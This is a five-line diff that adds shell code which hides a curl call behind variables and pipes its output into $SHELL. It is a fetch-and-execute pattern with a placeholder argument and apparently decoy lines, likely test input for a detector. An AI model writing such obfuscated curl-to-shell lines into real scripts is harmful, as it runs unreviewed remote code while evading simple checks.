@@ -1,0 +1,5 @@
+C=curl
+FLAGS="-s x"
+A=b $C -s
+"${C}" y | $SHELL
+$FLAGS
